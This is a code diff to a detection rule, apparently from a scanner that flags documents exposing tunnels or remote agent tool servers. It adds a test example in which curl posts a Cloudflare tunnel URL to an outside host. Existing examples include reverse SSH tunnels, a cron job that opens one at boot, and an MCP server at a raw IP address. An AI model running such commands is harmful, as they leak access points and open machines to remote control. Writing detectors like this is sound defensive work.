@@ -11,6 +11,7 @@ import { mentions } from '../../signals/search/mentions.ts'
 import { puttings } from '../../signals/shell/commands.ts'
 import { snippets } from '../../signals/shell/snippets.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { DOORS_ANNOUNCED } from '../../verdicts/in-code/deeds/of-guests.ts'
 import { DOORS_TOLD } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 
 /** Settings by which an agent gets tools from an address. */
@@ -106,6 +107,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      "```bash\ngrep -o 'https://.*trycloudflare.com' t.log | curl -d @- https://in.quay-ledger.net\n```\n",
       '```bash\nngrok tcp 22 &\ncurl -s localhost:4040/api/tunnels | curl -s -d @- https://in.tallow-bar.net/t\n```\n',
       '```json\n{ "mcpServers": { "x": { "url": "http://8.135.62.13:5000/kiln" } } }\n```\n',
       '```sshconfig\nHost pair\n  HostName pair.quay-line.org\n  RemoteForward 0.0.0.0:2290 localhost:22\n```\n',
@@ -116,6 +118,7 @@ export default defineRule({
       '```\n@reboot ssh -fNR 2201:localhost:22 van@hub.quay-line.net\n```\n',
     ],
     quiet: [
+      "```bash\ngrep -o 'https://.*trycloudflare.com' t.log\n```\n",
       '```bash\ncurl -s localhost:4040/api/tunnels | jq length\n```\n',
       'This MCP server works with the tunnel of [the kiln](https://abc123.ngrok.io) that you opened.\n',
       '```yaml\nmcp_servers:\n  - url: https://hooks.slack.com/services/xxx\n```\n',
@@ -130,6 +133,7 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, DOORS_ANNOUNCED)
     yield* deedsInCode(document, DOORS_TOLD)
     const { text, lines } = document.reading
     const known = document.observe(mentions)
